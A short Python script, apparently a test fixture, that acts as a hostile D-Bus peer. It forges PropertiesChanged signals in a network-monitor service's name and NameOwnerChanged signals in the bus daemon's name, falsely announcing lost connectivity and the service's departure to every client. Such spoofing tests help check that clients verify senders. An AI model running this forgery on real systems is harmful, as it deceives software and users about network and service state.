#!/usr/bin/python3
"""A hostile peer on the bus at argv[1]: to every connection but the service's (unicast) and to
everyone (broadcast), it says in the service's name that the network is gone, and in the bus's
name that the service left. Prints how many it sent."""
import sys

import dbus
import dbus.lowlevel

bus = dbus.bus.BusConnection(sys.argv[1])
service = "org.netobserver.Monitor"
owner = bus.get_name_owner(service)
lies = {"Connectivity": dbus.String("none", variant_level=1), "Interface": dbus.String("", variant_level=1),
        "Metered": dbus.Boolean(True, variant_level=1)}


def properties_changed(destination):
    message = dbus.lowlevel.SignalMessage("/org/netobserver/Monitor", "org.freedesktop.DBus.Properties", "PropertiesChanged")
    message.append(service, lies, dbus.Array([], signature="s"), signature="sa{sv}as")
    if destination:
        message.set_destination(destination)
    return message


def owner_left(destination):
    message = dbus.lowlevel.SignalMessage("/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged")
    message.append(service, owner, "", signature="sss")
    if destination:
        message.set_destination(destination)
    return message


sent = 0
for name in bus.list_names():
    if name.startswith(":") and name not in (owner, bus.get_unique_name()):
        for forge in (properties_changed, owner_left):
            bus.send_message(forge(name))
            sent += 1
for forge in (properties_changed, owner_left):
    bus.send_message(forge(None))
    sent += 1
bus.flush()
print(sent)
